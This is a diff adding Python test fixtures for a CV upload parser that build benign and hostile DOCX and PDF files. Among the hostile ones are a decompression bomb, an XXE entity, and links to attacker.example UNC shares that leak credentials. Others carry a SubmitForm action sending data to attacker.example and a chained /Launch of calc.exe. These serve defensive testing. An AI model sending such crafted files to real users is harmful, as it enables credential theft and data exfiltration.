@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import io
 import zipfile
+import zlib
+from pathlib import Path
 
 from docx import Document
 
@@ -185,3 +187,319 @@ def png_named_pdf() -> bytes:
     return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
             b"\x00\x00\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00"
             b"\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
+
+
+def pdf_flate_bomb(inflated: int = 18 * 1024 * 1024) -> bytes:
+    """The review's shape: a small PDF whose one page content stream inflates to 18 MB
+    of drawing operators (the parser's work grows with them, not with the file)."""
+    pattern = b"0 0 m 100 100 l S BT /F1 12 Tf (bomb) Tj ET\n"
+    raw = pattern * (inflated // len(pattern))
+    packed = zlib.compress(raw, 9)
+    objects = _page_objects(["Hello"])
+    objects[2] = (b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
+                  + b"\nendstream")
+    return _with_tree(objects)
+
+
+def pdf_with_many_inflating_streams(count: int = 4, inflated: int = 3 * 1024 * 1024) -> bytes:
+    """Each stream under the per-stream cap, together over the whole-file cap."""
+    packed = zlib.compress(b" " * inflated, 9)
+    kids = b" ".join(b"%d 0 R" % (3 + i * 2) for i in range(count))
+    objects = [b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
+    for i in range(count):
+        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
+                       b"/Resources << /Font << /F1 %d 0 R >> >> >>"
+                       % (4 + i * 2, 3 + count * 2))
+        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed
+                       + b"\nendstream")
+    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
+    return _with_tree(objects)
+
+
+# --- DOCX shapes real word processors write, and the attacker's variants -------------
+
+NS_DECL = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
+REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _docx_raw(body_xml: str, *, header: str | None = None, rels: str = "",
+              parts: dict[str, bytes] | None = None,
+              replace: dict[str, bytes] | None = None) -> bytes:
+    """A python-docx document whose body is `body_xml` (raw WordprocessingML), with an
+    optional header text, extra document relationships and extra parts."""
+    document = Document()
+    document.add_paragraph("__RAW__")
+    if header is not None:
+        document.sections[0].header.paragraphs[0].text = header
+    out = io.BytesIO()
+    document.save(out)
+    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
+        xml = archive.read("word/document.xml").decode()
+        relationships = archive.read("word/_rels/document.xml.rels").decode()
+    xml = xml.replace("<w:p><w:r><w:t>__RAW__</w:t></w:r></w:p>", body_xml)
+    relationships = relationships.replace("</Relationships>", rels + "</Relationships>")
+    return _rezip(out.getvalue(), replace={"word/document.xml": xml.encode(),
+                                           "word/_rels/document.xml.rels": relationships.encode(),
+                                           **(replace or {})}, add=parts)
+
+
+def _p(text: str) -> str:
+    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"
+
+
+def _text_box(text: str) -> str:
+    """A text box as Word writes it: a DrawingML shape in mc:Choice and the same text
+    again as a VML shape in mc:Fallback."""
+    return (
+        "<w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wp:anchor>"
+        "<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">"
+        "<a:graphicData><wps:wsp><wps:txbx><w:txbxContent>" + _p(text) +
+        "</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor>"
+        "</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>"
+        + _p(text) + "</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback>"
+        "</mc:AlternateContent></w:r>")
+
+
+FOOTNOTES = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes {NS_DECL}>'
+             '<w:footnote w:id="1"><w:p><w:r><w:t>Footnote remark</w:t></w:r></w:p>'
+             "</w:footnote></w:footnotes>").encode()
+FOOTER = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {NS_DECL}>'
+          "<w:p><w:r><w:t>Footer line</w:t></w:r></w:p></w:ftr>").encode()
+
+
+def docx_like_word() -> bytes:
+    """Header, footer, footnote, a nested table, a text box (twice in the file), a
+    hyperlink, a content control, a field and a tracked deletion, as Word writes them."""
+    body = (
+        _p("Profile")
+        + "<w:p><w:r><w:t>Anchor</w:t></w:r>" + _text_box("Boxed skill") + "</w:p>"
+        + "<w:tbl><w:tr><w:tc>" + _p("Cell one")
+        + "<w:tbl><w:tr><w:tc>" + _p("Nested cell") + "</w:tc></w:tr></w:tbl>"
+        + "</w:tc><w:tc>" + _p("Cell two") + "</w:tc></w:tr></w:tbl>"
+        + "<w:p><w:hyperlink r:id=\"rIdLink\"><w:r><w:t>LinkedIn profile</w:t></w:r>"
+        "</w:hyperlink></w:p>"
+        + "<w:sdt><w:sdtPr><w:alias w:val=\"Skills\"/></w:sdtPr><w:sdtContent>"
+        + _p("Controlled text") + "</w:sdtContent></w:sdt>"
+        + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
+        " PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
+        "<w:r><w:t>Fieldresult</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
+        + "<w:p><w:r><w:t>Kept</w:t></w:r><w:del><w:r><w:delText>Deleted</w:delText></w:r>"
+        "</w:del><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>"
+        + "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId9\"/>"
+        "<w:footerReference w:type=\"default\" r:id=\"rIdFooter\"/></w:sectPr>")
+    rels = (f'<Relationship Id="rIdLink" Type="{REL_TYPE}hyperlink" '
+            'Target="https://www.linkedin.com/in/example" TargetMode="External"/>'
+            f'<Relationship Id="rIdNotes" Type="{REL_TYPE}footnotes" Target="footnotes.xml"/>'
+            f'<Relationship Id="rIdFooter" Type="{REL_TYPE}footer" Target="footer1.xml"/>')
+    docx = _docx_raw(body, header="Anna Peeters", rels=rels,
+                     parts={"word/footnotes.xml": FOOTNOTES, "word/footer1.xml": FOOTER})
+    # python-docx already wrote a sectPr: keep only ours.
+    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
+        xml = archive.read("word/document.xml").decode()
+    first = xml.index("<w:sectPr w:rsid")
+    xml = xml[:first] + xml[xml.index("</w:sectPr>", first) + len("</w:sectPr>"):]
+    return _rezip(docx, replace={"word/document.xml": xml.encode()})
+
+
+def _with_settings_rels(rels: str) -> dict[str, bytes]:
+    return {"word/_rels/settings.xml.rels": (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + rels + "</Relationships>").encode()}
+
+
+def docx_with_external_template() -> bytes:
+    """Word fetches an attached template on opening: from a UNC path, that is a
+    credentials leak (and a .dotm runs macros)."""
+    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings '
+                f'{NS_DECL}><w:attachedTemplate r:id="rId1"/></w:settings>').encode()
+    rels = (f'<Relationship Id="rId1" Type="{REL_TYPE}attachedTemplate" '
+            'Target="file://attacker.example/share/cv.dotm" TargetMode="External"/>')
+    return _docx_raw(_p("Template"), replace={"word/settings.xml": settings},
+                     parts=_with_settings_rels(rels))
+
+
+def docx_with_alt_chunk() -> bytes:
+    """altChunk imports another document (HTML, RTF, even a DOCX) into the body."""
+    rels = (f'<Relationship Id="rIdChunk" Type="{REL_TYPE}aFChunk" Target="chunk.html"/>')
+    return _docx_raw(_p("Before") + '<w:altChunk r:id="rIdChunk"/>', rels=rels,
+                     parts={"word/chunk.html": b"<html><body>imported</body></html>"})
+
+
+def docx_with_dtd_in_settings() -> bytes:
+    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<!DOCTYPE s [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
+                f'<w:settings {NS_DECL}><w:zoom w:percent="100"/></w:settings>').encode()
+    return _docx_raw(_p("Settings"), replace={"word/settings.xml": settings})
+
+
+def docx_with_ole_object() -> bytes:
+    return _docx_raw('<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rIdX"/>'
+                     "</w:object></w:r></w:p>")
+
+
+def docx_with_external_image() -> bytes:
+    """An image linked, not embedded: fetched from the server on opening."""
+    rels = (f'<Relationship Id="rIdImg" Type="{REL_TYPE}image" '
+            'Target="http://attacker.example/pixel.png" TargetMode="External"/>')
+    return _docx_raw(_p("Pixel"), rels=rels)
+
+
+def docx_with_include_picture_field() -> bytes:
+    return _docx_raw('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+                     ' INCLUDEPICTURE "\\\\attacker\\share\\p.png" \\d </w:instrText></w:r>'
+                     '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def docx_with_file_hyperlink() -> bytes:
+    rels = (f'<Relationship Id="rIdLink" Type="{REL_TYPE}hyperlink" '
+            'Target="file://attacker.example/share/run.exe" TargetMode="External"/>')
+    return _docx_raw('<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>click</w:t></w:r>'
+                     "</w:hyperlink></w:p>", rels=rels)
+
+
+def docx_from_local_template() -> bytes:
+    """What Word writes for a CV made from a template on the author's own disk."""
+    settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings '
+                f'{NS_DECL}><w:attachedTemplate r:id="rId1"/></w:settings>').encode()
+    rels = (f'<Relationship Id="rId1" Type="{REL_TYPE}attachedTemplate" Target="file:///C:\\'
+            'Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx" '
+            'TargetMode="External"/>')
+    return _docx_raw(_p("From a template"), replace={"word/settings.xml": settings},
+                     parts=_with_settings_rels(rels))
+
+
+# --- PDFs as real producers write them -----------------------------------------------
+
+FIXTURES = Path(__file__).resolve().parent / "fixtures"
+
+
+def libreoffice_pdf(name: str) -> bytes:
+    return (FIXTURES / f"libreoffice-{name}.pdf").read_bytes()
+
+
+def pdf_like_word() -> bytes:
+    """The shape Word's "Save as PDF" writes: a tagged structure tree (/S /P elements),
+    an outline with /GoTo actions, named destinations, a web link and an internal link,
+    and /OpenAction on the first page (/Fit)."""
+    objects = _page_objects(["Anna Peeters", "Data engineer"],
+                            b"/Annots [6 0 R 7 0 R] /StructParents 0 ")
+    objects += [
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /Border [0 0 0] "
+        b"/A << /Type /Action /S /URI /URI (https://www.linkedin.com/in/example) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 680 200 692] /Border [0 0 0] "
+        b"/A << /S /GoTo /D (_Toc1) >> >>",
+        b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
+        b"<< /Title (Experience) /Parent 8 0 R /A << /S /GoTo /D [3 0 R /XYZ 72 720 0] >> >>",
+        b"<< /Type /StructTreeRoot /K [11 0 R] >>",
+        b"<< /Type /StructElem /S /P /P 10 0 R /Pg 3 0 R /K 0 >>",
+        b"<< /Names [(_Toc1) [3 0 R /FitH 700]] >>",
+    ]
+    return _with_tree(objects, b"/OpenAction [3 0 R /Fit] /Outlines 8 0 R "
+                               b"/StructTreeRoot 10 0 R /MarkInfo << /Marked true >> "
+                               b"/Names << /Dests 12 0 R >> /PageMode /UseOutlines "
+                               b"/Lang (nl-BE) ")
+
+
+def pdf_hyphenated_with_ligatures() -> bytes:
+    """Reportlab with an embedded TrueType font: a word hyphenated at a line end, one
+    split by a soft hyphen, and the ligature characters fi and fl."""
+    import reportlab
+    from reportlab.pdfbase import pdfmetrics
+    from reportlab.pdfbase.ttfonts import TTFont
+    from reportlab.pdfgen import canvas
+
+    # Bitstream Vera ships with reportlab and has the ligature and soft-hyphen glyphs.
+    font = Path(reportlab.__file__).parent / "fonts" / "Vera.ttf"
+    pdfmetrics.registerFont(TTFont("VaultVera", str(font)))
+    out = io.BytesIO()
+    page = canvas.Canvas(out, pagesize=(595, 842))
+    page.setFont("VaultVera", 12)
+    for y, line in ((760, "Ervaren software-"), (745, "ingenieur en data-"),
+                    (730, "engineer bij Ingenium."), (715, "Certi\ufb01ed in Kafka, "
+                                                          "\ufb02exible, gebruiksvriende\u00ad"),
+                    (700, "lijk."), (685, "Jean-"), (670, "Pierre is a colleague.")):
+        page.drawString(72, y, line)
+    page.showPage()
+    page.save()
+    return out.getvalue()
+
+
+def _pdf_with_link_action(action: bytes) -> bytes:
+    objects = _page_objects(["Hello"], b"/Annots [6 0 R] ")
+    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A " + action
+                   + b" >>")
+    return _with_tree(objects)
+
+
+def pdf_with_gotor_unc() -> bytes:
+    """Opening another file from a share: the viewer authenticates to that machine."""
+    return _pdf_with_link_action(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) "
+                                 b"/D [0 /Fit] /NewWindow true >>")
+
+
+def pdf_with_gotoe() -> bytes:
+    return _pdf_with_link_action(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>")
+
+
+def pdf_with_submit_form() -> bytes:
+    return _pdf_with_link_action(b"<< /S /SubmitForm /F << /FS /URL /F "
+                                 b"(https://attacker.example/collect) >> >>")
+
+
+def pdf_with_import_data() -> bytes:
+    return _pdf_with_link_action(b"<< /S /ImportData /F (data.fdf) >>")
+
+
+def pdf_with_file_uri() -> bytes:
+    return _pdf_with_link_action(b"<< /S /URI /URI (file://attacker.example/share/x.exe) >>")
+
+
+def pdf_with_web_link() -> bytes:
+    return _pdf_with_link_action(b"<< /S /URI /URI (https://github.com/example) >>")
+
+
+def pdf_with_goto_then_launch() -> bytes:
+    """A harmless-looking /GoTo with a /Launch chained after it."""
+    return _pdf_with_link_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch "
+                                 b"/F (calc.exe) >> >>")
+
+
+def pdf_with_print_named_action() -> bytes:
+    return _with_tree(_page_objects(["Hello"]), b"/OpenAction << /S /Named /N /Print >> ")
+
+
+def pdf_opening_on_a_page() -> bytes:
+    return _with_tree(_page_objects(["Hello"]),
+                      b"/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >> ")
+
+
+def pdf_scanned_cv(lines: tuple[str, ...] = ("Curriculum vitae", "Ervaren ingenieur",
+                                             "Kubernetes Python Kafka",
+                                             "Bruxelles, Belgique")) -> bytes:
+    """A page that is one image of printed text, as a scanner makes it (no text layer)."""
+    import reportlab
+    from PIL import Image, ImageDraw, ImageFont
+    from reportlab.lib.utils import ImageReader
+    from reportlab.pdfgen import canvas
+
+    image = Image.new("L", (1240, 1754), 255)  # A4 at 150 dpi
+    draw = ImageDraw.Draw(image)
+    font = ImageFont.truetype(str(Path(reportlab.__file__).parent / "fonts" / "Vera.ttf"), 40)
+    for index, line in enumerate(lines):
+        draw.text((100, 150 + index * 80), line, fill=0, font=font)
+    out = io.BytesIO()
+    page = canvas.Canvas(out, pagesize=(595, 842))
+    page.drawImage(ImageReader(image), 0, 0, 595, 842)
+    page.showPage()
+    page.save()
+    return out.getvalue()
+
+
+def docx_with_dtd_in_a_renamed_part() -> bytes:
+    """Settings under another name: the relationship, not the name, makes it settings."""
+    settings = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE s [<!ENTITY x SYSTEM '
+                f'"http://attacker.example/x">]><w:settings {NS_DECL}/>').encode()
+    rels = f'<Relationship Id="rIdS" Type="{REL_TYPE}settings" Target="settings.dat"/>'
+    return _docx_raw(_p("Renamed"), rels=rels, parts={"word/settings.dat": settings})
